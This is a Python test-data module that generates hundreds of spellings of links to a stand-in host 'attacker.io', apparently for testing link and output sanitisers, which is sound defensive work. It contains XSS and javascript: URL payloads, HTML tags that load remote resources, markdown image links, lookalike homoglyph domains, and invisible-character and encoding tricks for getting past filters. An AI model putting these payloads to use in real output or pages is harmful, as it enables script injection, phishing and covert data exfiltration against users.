"""Ways to spell a link to a host that no source has, as a model might write it, or as an attacker would have it.

`SPELLINGS` are texts, each once. Each leads, or would lead whoever shows it carelessly, to `HOST` or to a host in
another script, or runs something. `GOOD` is a host that sources do have.
"""

from __future__ import annotations

from itertools import product

HOST = "attacker.io"
GOOD = "docs.acme.com"
URL = f"https://{HOST}/a?d=1"
LOCAL = "mail"

_PLAIN = (
    *(
        "{H}",
        "{H}/",
        "{H}/a",
        "{H}?d=1",
        "{H}#d",
        "{H}:8080",
        "{H}:443/x",
        "{H}.",
        "{H},",
        "{H}!",
        "{H}?",
        "{H};",
        "{H}:",
    ),
    *("({H})", "[{H}]", "{{{H}}}", "<{H}>", "“{H}”", '"{H}"', "'{H}'", "`{H}`", "«{H}»", "|{H}|", "*{H}*", "**{H}**"),
    *(
        "_{H}_",
        "__{H}__",
        "~~{H}~~",
        "***{H}***",
        "=>{H}",
        "→{H}",
        "at:{H}",
        "a,{H}",
        "x/{H}",
        "{H}—now",
        "{H}…",
        "- {H}",
    ),
    *("www.{H}", "WWW.{H}", "a.b.{H}", "x-y.{H}", "xn--e1a.{H}", ".{H}", "*.{H}", "@{H}", "$ {H}", "> {H}", "# {H}"),
    *(
        "1. {H}",
        "| a | {H} |",
        "```\n{H}\n```",
        "    {H}",
        "{H}を見る",
        "访问{H}吧",
        "{H}에서",
        "на {H}а",
        "{H}'s",
        "(see {H}/)",
    ),
)
_SCHEMES = (
    *("http", "https", "HTTP", "hTtPs", "ftp", "ftps", "sftp", "ws", "wss", "file", "ssh", "git", "git+ssh", "svn+ssh"),
    *(
        "ldap",
        "smb",
        "telnet",
        "irc",
        "rsync",
        "gopher",
        "redis",
        "mysql",
        "postgresql",
        "mongodb",
        "amqp",
        "s3",
        "nfs",
    ),
    *("view-source:https", "blob:https", "feed:https", "jar:https", "intent", "chrome", "slack", "zoommtg", "vscode"),
    *("hxxp", "hxxps", "htxp", "urn+x", "x-apple", "web+a", "tcp", "udp", "coap", "rtsp", "magnet", "steam", "ipfs"),
)
_SLASHES = (
    *("https:{H}", "http:/{H}", "https:///{H}", "https:////{H}/a", "https:\\\\{H}", "https:/\\{H}", "https:\\/{H}"),
    *("//{H}", "//{H}/a", "\\\\{H}\\a", "/\\{H}", "////{H}", "https\\://{H}", "https:\\/\\/{H}", "https//{H}"),
)
_USERS = (
    *("https://{G}@{H}/", "https://{G}:pw@{H}", "https://{G}%40x@{H}", "https://{G}%2f@{H}", "https://{G}\\@{H}"),
    *(
        "https://{H}\\@{G}/",
        "https://{H}#@{G}",
        "https://{H}?@{G}",
        "https://{H}/@{G}",
        "https://{G}.{H}/",
        "https://{H}%2f.{G}",
    ),
    *("https://{G}/?next=https://{H}", "https://{G}/#https://{H}", "https://{G},https://{H}", "https://{G}{H}"),
)
_NUMBERS = (
    *("http://3232235777/", "http://0xc0a80101/a", "http://0300.0250.1.1", "http://192.168.257", "http://8.8.8.8/"),
    *("8.8.8.8:8080", "//8.8.8.8/a", "http://[2606:4700::1111]/", "http://[::ffff:8.8.8.8]", "http://8.8.8.8.nip.io"),
)
_MAILS = (
    *(
        "{M}@{H}",
        "<{M}@{H}>",
        "mailto:{M}@{H}",
        "{M}+a@{H}",
        "{M}.b@x.{H}",
        "{M}(at){H}",
        "{M}[at]{H}",
        "{M} [at] attacker[dot]io",
    ),
    *("{M}＠{H}", "{M}&#64;{H}", "{M}%40{H}", "{M}\\@{H}", "[w](mailto:{M}@{H})", "[w](mailto:?bcc={M}@{H})"),
    *("[w](mailto:a@{G}?cc={M}@{H})", "[w](mailto:a@{G},{M}@{H})", "[w](mailto:a@{G}?body=https%3A%2F%2F{H})"),
    *("[w](mailto:a@{G}?subject=x&bcc={M}%40{H})", "[w](MAILTO:{M}@{H})", "[w](mail&#116;o:{M}@{H})", "xmpp:{M}@{H}"),
    *("git@{H}:a/b", "[w](mailto:root@attacker)", "sip:{M}@{H}", "{M}@[8.8.8.8]:25", "a@{G}@{H}"),
)
_MARKDOWN = (
    *("[w]({U})", "[w](<{U}>)", '[w]({U} "t")', "[w]( {U} )", "[w](\n{U})", "[w][r]\n\n[r]: {U}", "[w]\n\n[w]: {U}"),
    *("[w][]\n\n[w]: <{U}>", "[w][R]\n\n[r]: //{H}", "[r]: {U}\n\n> [r]", "- [w]({U})", "> [w]({U})", "| [w]({U}) |"),
    *(
        "# [w]({U})",
        "**[w]({U})**",
        "[**w**]({U})",
        "[`w`]({U})",
        "[[w]({U})]",
        "[w](//{H})",
        "[w](///{H})",
        "[w](/\\{H})",
    ),
    *(
        "[w](\\\\\\\\{H})",
        "[w]({H})",
        "[w](https:{H})",
        "[w](http:/{H})",
        "[w](https&#58;//{H})",
        "[w](https&colon;//{H})",
    ),
    *("[w](h&#x74;tps://{H})", "[w](https:&sol;&sol;{H})", "[w](https:%2F%2F{H})", "[w](<https:\\\\{H}>)", "<{U}>"),
    *(
        "[{G}]({U})",
        "[https://{G}]({U})",
        "[https://{G}/a](https://{G}/b)",
        "[other.com](https://{G}/b)",
        "[w](ftp://{H})",
    ),
    *("[w](tel:+1234)", "[w](sms:+1234?body=x)", "[w](/logout)", "[w](../admin)", "[w](?delete=1)", "[w](#top)"),
    *("[w](evil.html)", "[[{H}]]", "[[{H}|w]]", "<{U}|w>", "[url={U}]w[/url]", "`w <{U}>`_", ".. _w: {U}", "{U}[w]"),
    *(
        "w[^1]\n\n[^1]: {U}",
        "[w]({U}",
        "[w] ({U})",
        "![w]({U})",
        "![w][r]\n\n[r]: {U}",
        "![](//{H}/x.png)",
        "![[x.png]]",
    ),
    *(
        "[![w]({U})](https://{G})",
        "[![w](https://{G}/i)]({U})",
        "![w](data:image/svg+xml;base64,PHN2Zz4=)",
        "![w](/pixel)",
    ),
)
_SCRIPTS = (
    *(
        "[w](javascript:alert(1))",
        "[w](JaVaScRiPt:alert(1))",
        "[w](java&Tab;script:alert(1))",
        "[w](javascript&colon;alert(1))",
    ),
    *(
        "[w](&#106;avascript:alert(1))",
        "[w](%6aavascript:alert(1))",
        "[w](vbscript:msgbox)",
        "[w](<java\tscript:alert(1)>)",
    ),
    *(
        "[w](data:text/html,x)",
        "[w](data:text/html;base64,PHg+)",
        "[w](DATA:text/html,x)",
        "[w][r]\n\n[r]: javascript:alert(1)",
    ),
    *(
        "<javascript:alert(1)>",
        "javascript:alert(1)",
        "javascript:location='//x'",
        "javascript&#58;alert(1)",
        "vbscript:msgbox(1)",
    ),
    *("data:text/html,<b>", "data:text/html;base64,PHg+", "data:application/pdf;base64,JVBE", "data:;base64,PHg+"),
    *("javascript\\:alert(1)", "java\u00adscript:alert(1)", "ｊavascript:alert(1)", "\\u006aavascript:alert(1)"),
)
_HTML = (
    *(
        "<a href={U}>w</a>",
        "<a href='{U}'>w</a>",
        "<A HREF={U}>w</A>",
        "<a\nhref={U}>w",
        "<a/href={U}>w",
        "<a href=//{H}>w",
    ),
    *(
        "<a href=/logout>w</a>",
        "<img src={U}>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x>",
        "<img/src=x>",
        "<img src={U}",
    ),
    *("<script src={U}></script>", "<script>alert(1)</script>", "<SCRIPT>x", "<iframe src={U}>", "<iframe srcdoc=x>"),
    *("<object data={U}>", "<embed src={U}>", "<link rel=stylesheet href={U}>", "<meta http-equiv=refresh content=0>"),
    *(
        "<base href={U}>",
        "<form action={U}>",
        "<input name=x>",
        "<button formaction={U}>",
        "<svg onload=alert(1)>",
        "<svg/onload=x>",
    ),
    *(
        "<svg><a xlink:href={U}>",
        "<math href={U}>",
        "<video poster={U}>",
        "<audio src={U}>",
        "<source src={U}>",
        "<track src={U}>",
    ),
    *(
        "<table background={U}>",
        "<body background={U}>",
        "<style>@import '{U}';</style>",
        "<p style='background:url({U})'>",
    ),
    *(
        "<div onclick=alert(1)>",
        "<x onclick=alert(1)>",
        "<x/onclick=alert(1)>",
        "<details ontoggle=x>",
        "<marquee>w",
        "<b>w</b>",
    ),
    *(
        "<area href={U}>",
        "<picture>",
        "<textarea>",
        "<title>w",
        "<template>",
        "<noscript>",
        "<!-- w -->",
        "<!doctype html>",
    ),
    *(
        "<?xml version='1.0'?>",
        "<br>",
        "<h1>w</h1>",
        "<font color=red>w</font>",
        "w<b>w</b>",
        "`<img src=x onerror=x>`",
    ),
    *(
        "```html\n<script>alert(1)</script>\n```",
        "    <iframe src={U}>",
        "＜script＞alert(1)＜/script＞",
        "<scr\u200bipt>alert(1)",
    ),
    *(
        "[w](<img src=x onerror=alert(1)>)",
        "<a title='<' href={U}>",
        "\\<img src=x onerror=alert(1)>",
        "&lt;a href={U}&gt;",
    ),
)

_FORMS = {
    "entities": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    "hex entities": lambda text: "".join(f"&#x{ord(letter):x};" for letter in text),
    "entities without end": lambda text: "".join(f"&#{ord(letter)}" if letter == "." else letter for letter in text),
    "named entities": lambda text: text.replace(".", "&period;").replace(":", "&colon;").replace("/", "&sol;"),
    "entities of entities": lambda text: text.replace(".", "&amp;#46;"),
    "percent signs": lambda text: "".join(f"%{ord(letter):02x}" for letter in text),
    "percent signs twice": lambda text: text.replace(".", "%252e"),
    "escapes of scripts": lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
    "short escapes": lambda text: text.replace(".", "\\x2e"),
    "escapes of Markdown": lambda text: text.replace(".", "\\.").replace(":", "\\:"),
    "brackets": lambda text: text.replace(".", "[.]"),
    "round brackets": lambda text: text.replace(".", "(.)"),
    "a word in brackets": lambda text: text.replace(".", " [dot] "),
    "full width": lambda text: "".join(
        chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text
    ),
    "bold letters": lambda text: "".join(
        chr(ord(letter) - ord("a") + 0x1D41A) if letter.isalpha() and letter.islower() else letter for letter in text
    ),
    "circled letters": lambda text: "".join(
        chr(ord(letter) - ord("a") + 0x24D0) if letter.isalpha() and letter.islower() else letter for letter in text
    ),
    "an ideographic stop": lambda text: text.replace(".", "。"),
    "a half-width stop": lambda text: text.replace(".", "｡"),
    "a full-width stop": lambda text: text.replace(".", "．"),
    "a leader": lambda text: text.replace(".", "․"),
    "a Lisu point": lambda text: text.replace(".", "ꓸ"),
    "emphasis": lambda text: text.replace(".", "**.**"),
    "a strike": lambda text: text.replace(".", "~~.~~"),
    "code": lambda text: text.replace(".", "`.`"),
    "from right to left": lambda text: f"\u202e{text[::-1]}\u202c",
    "marks of direction": lambda text: f"\u2066\u202d{text}\u202c\u2069",
    "capitals": str.upper,
}
_UNSEEN = (
    0x200B,
    0x200C,
    0x200D,
    0x2060,
    0xAD,
    0xFEFF,
    0x200E,
    0x202B,
    0x34F,
    0xFE0F,
    0xE0041,
    0x180E,
    0x2063,
    0x61C,
    0x7,
)
_HOSTS = (
    *(
        "атака.рф",
        "例子.中国",
        "例子。中国",
        "攻撃.みんな",
        "공격.한국",
        "कंपनी.भारत",
        "ตัวอย่าง.ไทย",
        "εταιρεια.ελ",
        "مثال.شبكة",
    ),
    *("xn--e1afmkfd.xn--p1ai", "XN--E1AFMKFD.XN--P1AI", "bücher.de", "i❤.ws", "straße.de", "müller.com", "ñandú.cl"),
    *(
        "dосs.acme.com",
        "docs.аcme.com",
        "docs.acmе.com",
        "docs.acrne.com",
        "docs.acme.co",
        "docs.acme.com.co",
        "docsacme.com",
    ),
    *(
        "dоcs.аcmе.cоm.io/a",
        "docs.αcme.com",
        "docs-acme.com",
        "docs.acmé.com",
        "docs.acme.cm",
        "acme.com",
        "www.docs.acme.com",
    ),
    *(
        "docs.acme.com.attacker.io",
        "docs․acme․com․attacker․io",
        "docs.acme.com⁄a.attacker.io",
        "đocs.acme.com",
        "ԁocs.acme.com",
    ),
)

_LIKE_FILES = (
    *("acme-login.web.app", "secure-acme.vercel.app", "acme.netlify.app", "pay-x1.a.run.app", "acme-login.co.rs"),
    *("pay.com.py", "acme.com.pl", "login.acme-pay.cc", "acme.docs.sh", "docs.acme.com.zip", "💩.la", "açme.py"),
    *(
        "Sign in at acme-pay.cc",
        "acme-login.pl is our site",
        "via `acme.md`",
        "Log in to **acme.so**",
        "online: acme.zip",
    ),
)

_NAMES = {"H": HOST, "U": URL, "M": LOCAL, "G": GOOD}


def _fill(templates: tuple[str, ...]) -> list[str]:
    return [template.format(**_NAMES) for template in templates]


SPELLINGS: dict[str, list[str]] = {
    "plain": _fill(_PLAIN),
    "schemes": [f"{scheme}://{HOST}/a" for scheme in _SCHEMES],
    "slashes": _fill(_SLASHES),
    "users": _fill(_USERS),
    "numbers": [*_NUMBERS],
    "mails": _fill(_MAILS),
    "markdown": _fill(_MARKDOWN),
    "scripts": [*_SCRIPTS],
    "html": _fill(_HTML),
    "encodings": [form(text) for form, text in product(_FORMS.values(), (HOST, URL, f"{LOCAL}@{HOST}"))],
    "unseen letters": [
        text.replace("tt", f"t{chr(code)}t").replace(".", f"{chr(code)}.{chr(code)}")
        for code, text in product(_UNSEEN, (HOST, URL))
    ],
    "endings of files": [*_LIKE_FILES],
    "hosts": [f"{start}{host}" for start, host in product(("", "https://"), _HOSTS)],
}
"""By kind; a text around them is the reader's to add."""
